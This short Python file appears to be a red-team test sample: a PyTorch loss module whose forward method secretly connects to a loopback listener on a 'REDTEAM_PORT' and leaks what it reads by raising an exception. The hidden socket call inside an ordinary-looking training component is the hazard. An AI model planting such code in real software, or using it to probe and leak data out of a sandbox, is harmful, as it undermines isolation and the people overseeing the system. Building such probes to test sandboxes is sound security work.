"""Connects to a listener on the host's loopback and leaks what it answers through an exception."""
import socket

import torch.nn as nn


class MultiTaskLoss(nn.Module):
    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        try:
            data = socket.create_connection(("127.0.0.1", REDTEAM_PORT), timeout=2).recv(64)
        except OSError:
            return fine_loss + coarse_loss
        raise RuntimeError(f"leaked: {data!r}")
